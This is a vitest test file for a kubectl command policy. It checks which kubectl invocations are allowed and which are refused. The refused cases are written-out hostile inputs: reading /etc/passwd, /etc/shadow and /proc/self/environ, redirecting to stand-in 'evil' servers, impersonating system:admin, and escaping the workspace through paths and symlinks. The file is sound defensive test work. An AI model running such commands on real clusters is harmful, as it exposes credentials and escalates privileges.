import { afterAll, describe, expect, it } from "vitest";
import { checkKubectl } from "./kubectl-policy";
import { makeTestWorkspace } from "./test-workspace";
import { tokenize } from "./tokenize";

const ws = makeTestWorkspace();
afterAll(() => ws.cleanup());

const argv = (line: string) => {
  const t = tokenize(line);
  if (!t.ok) throw new Error(t.message);
  return t.words;
};
const plan = (line: string) => {
  const r = checkKubectl(argv(line), ws.dir);
  if (!r.ok) throw new Error(`refused: ${r.message}`);
  return r.plan;
};
const refusal = (line: string) => {
  const r = checkKubectl(argv(line), ws.dir);
  if (r.ok) throw new Error(`allowed: ${line}`);
  return r.message;
};

describe("kubectl policy: allowed", () => {
  it.each([
    "get pods",
    "get pods -A -o wide",
    "-n kube-system get pods",
    "--namespace=kube-system get pods",
    "--namespace kube-system get pods -owide",
    "get pods -l app=web -L tier",
    "describe deploy/web",
    "apply -f deployment.yaml",
    "apply -f ./manifests/ -R",
    "apply -f deployment.yaml,manifests/web.yaml",
    "apply --filename=manifests",
    "apply -k kust",
    "apply --server-side -f deployment.yaml",
    "apply view-last-applied deploy/web",
    "create -f link-in.yaml",
    "create configmap c --from-file=deployment.yaml --from-file=k=manifests/web.yaml --from-env-file=app.env --from-literal=a=b",
    "create secret tls t --cert=deployment.yaml --key=app.env",
    "create deployment web --image=nginx --replicas=3",
    "delete pod web --grace-period=0 --force",
    "run web --image=nginx --restart=Never -- sleep 3600",
    "expose deploy web --port=80",
    "scale deploy web --replicas=2",
    "set image deploy/web nginx=nginx:1.27",
    "rollout undo deploy/web",
    "label pod p a=b --overwrite",
    'patch deploy web -p \'{"spec":{"replicas":2}}\'',
    "patch deploy web --patch-file=deployment.yaml --type=merge",
    "replace -f deployment.yaml",
    "explain pods.spec.containers",
    "api-resources",
    "version",
    "cluster-info",
    "auth can-i create pods",
    "auth whoami",
    "events --for pod/web",
    "get --raw /api/v1/namespaces",
    "get pods -o go-template-file=deployment.yaml",
    "get pods -o jsonpath-file --template=deployment.yaml",
    "get pods -o go-template --template='{{.kind}}'",
    "exec web -- env --kubeconfig=/etc/passwd",
    "",
    "--help",
    "help get",
    "get pods -v=6",
  ])("kubectl %s", (line) => {
    expect(plan(line).args).toEqual(argv(line));
  });

  it("plans pty for interactive exec/run/attach and the long limit for streaming commands", () => {
    expect(plan("exec -it web -- sh")).toMatchObject({ mode: "pty", long: true, subcommand: "exec" });
    expect(plan("exec web -i -t -- sh")).toMatchObject({ mode: "pty" });
    expect(plan("exec web --stdin --tty -- sh")).toMatchObject({ mode: "pty" });
    expect(plan("run -it b --image=busybox --rm -- sh")).toMatchObject({ mode: "pty" });
    expect(plan("exec web -- ls")).toMatchObject({ mode: "pipe", long: false });
    expect(plan("get pods -w")).toMatchObject({ mode: "pipe", long: true });
    expect(plan("get pods --watch")).toMatchObject({ long: true });
    expect(plan("logs -f web")).toMatchObject({ long: true });
    expect(plan("logs web -p")).toMatchObject({ long: false });
    expect(plan("logs --follow web")).toMatchObject({ long: true });
    expect(plan("rollout status deploy/web")).toMatchObject({ long: true });
    expect(plan("wait --for=condition=Ready pod/web")).toMatchObject({ long: true });
    expect(plan("get pods")).toMatchObject({ mode: "pipe", long: false });
  });
});

describe("kubectl policy: refused", () => {
  it.each([
    ["config view", "kubectl config"],
    ["config use-context x", "kubectl config"],
    ["proxy", "kubectl proxy"],
    ["port-forward pod/x 8080:80", "port-forward"],
    ["cp web:/etc/passwd x", "kubectl cp"],
    ["plugin list", "plugins"],
    ["edit deploy web", "text editor"],
    ["diff -f deployment.yaml", "local diff"],
    ["kustomize kust", "kubectl kustomize"],
    ["debug pod/x", "debug"],
    ["foo", "unknown subcommand or plugin"],
    ["krew install x", "unknown subcommand or plugin"],
    ["auth reconcile -f deployment.yaml", "auth can-i"],
    ["auth", "auth can-i"],
    ["apply edit-last-applied deploy/web", "apply view-last-applied"],
    ["get pods --kubeconfig=/etc/kubernetes/admin.conf", "--kubeconfig"],
    ["get pods --kubeconfig /x", "--kubeconfig"],
    ["--kubeconfig=/x get pods", "--kubeconfig"],
    ["get pods --server=https://evil:6443", "--server"],
    ["get pods -s https://evil:6443", "--server"],
    ["get pods -shttps://evil", "--server"],
    ["get pods -As=x", "--server"],
    ["-s x get pods", "--server"],
    ["get pods --token=abc", "--token"],
    ["get pods --as=system:admin", "--as"],
    ["get pods --as-group=system:masters", "--as-group"],
    ["get pods --as-uid=1", "--as-uid"],
    ["get pods --user=admin", "--user"],
    ["get pods --username=a", "--username"],
    ["get pods --password=a", "--password"],
    ["get pods --cluster=other", "--cluster"],
    ["get pods --context=other", "--context"],
    ["get pods --certificate-authority=/x", "--certificate-authority"],
    ["get pods --certificate_authority=/x", "--certificate-authority"],
    ["get pods --client-certificate=/x", "--client-certificate"],
    ["get pods --client-key=/x", "--client-key"],
    ["get pods --client-whatever=/x", "--client-whatever"],
    ["get pods --insecure-skip-tls-verify", "--insecure-skip-tls-verify"],
    ["get pods --insecure_skip_tls_verify=true", "--insecure-skip-tls-verify"],
    ["get pods --tls-server-name=x", "--tls-server-name"],
    ["get pods --cache-dir=/tmp/x", "--cache-dir"],
    ["get pods --cache_dir=/tmp/x", "--cache-dir"],
    ["get pods --log-file=/tmp/x", "--log-file"],
    ["get pods --profile=cpu --profile-output=/tmp/x", "--profile"],
    ["cluster-info dump --output-directory=/tmp/x", "--output-directory"],
    ["apply -k kust --enable-helm", "--enable-helm"],
    ["apply -k kust --helm-command=/bin/sh", "--helm-command"],
    ["apply -k kust --load-restrictor=LoadRestrictionsNone", "--load-restrictor"],
    ["create -f deployment.yaml --edit", "--edit"],
    ["apply -f /etc/passwd", "absolute paths"],
    ["apply -f/etc/passwd", "absolute paths"],
    ["apply -f=/etc/passwd", "absolute paths"],
    ["apply --filename=/etc/passwd", "absolute paths"],
    ["apply --filename /etc/passwd", "absolute paths"],
    ["apply -Rf /etc", "absolute paths"],
    ["apply -f deployment.yaml,/etc/passwd", "absolute paths"],
    ["apply -f '\"a,b\",c'", "quotes inside file names"],
    ["apply -f ../outside/secret.txt", "`..`"],
    ["apply -f link-out.yaml", "outside your workspace"],
    ["apply -f leaky", "outside your workspace"],
    ["apply -f dir-out/secret.txt", "outside your workspace"],
    ["apply -f https://evil.example/x.yaml", "URLs"],
    ["apply -f -", "standard input"],
    ["apply -f", "needs a file name"],
    ["apply -k https://github.com/x/y", "URLs"],
    ["apply -k github.com/x/y", "URLs"],
    ["apply -k example.com/x/y", "isn't a folder"],
    ["apply -k deployment.yaml", "isn't a folder"],
    ["apply --kustomize=/etc", "absolute paths"],
    ["create configmap c --from-file=/etc/passwd", "absolute paths"],
    ["create configmap c --from-file=key=/etc/passwd", "absolute paths"],
    ["create configmap c --from-file=a.yaml,key=../x", "`..`"],
    ["create configmap c --from-env-file=/proc/self/environ", "absolute paths"],
    ["create secret tls t --cert=/etc/ssl/private/k --key=x", "absolute paths"],
    ["create secret tls t --cert=x --key=/etc/shadow", "absolute paths"],
    ["patch deploy web --patch-file=/etc/passwd", "absolute paths"],
    ["get pods -o go-template-file=/etc/passwd", "absolute paths"],
    ["get pods -o custom-columns-file=/etc/passwd", "absolute paths"],
    ["get pods --output custom-columns-file=/etc/passwd", "absolute paths"],
    ["get pods --output go-template-file --template /etc/passwd", "absolute paths"],
    ["get pods --kuberc=/etc/x", "--kuberc"],
    ["get pods -o=jsonpath-file=../x", "`..`"],
    ["get pods -o templatefile --template=/etc/passwd", "absolute paths"],
    ["get pods -ogo-template-file --template /etc/passwd", "absolute paths"],
    ["get --raw https://evil/api", "--raw"],
    ["get --raw api/v1", "--raw"],
    ["--request-timeout 5s --foo get pods", "subcommand first"],
    ["-A get pods", "subcommand first"],
    ["-f /etc/passwd apply", "subcommand first"],
    ["--match-server-version --kubeconfig=x get", "--kubeconfig"],
    ["get pods -1", "invalid flag"],
    ["-- config view", "subcommand first"],
    ["get pods -v --kubeconfig=/x", "--kubeconfig"],
    ["get pods -l --token=x", "--token"],
    ["get pods --=x", "invalid flag"],
  ])("kubectl %s", (line, msg) => {
    expect(refusal(line)).toContain(msg);
  });
});
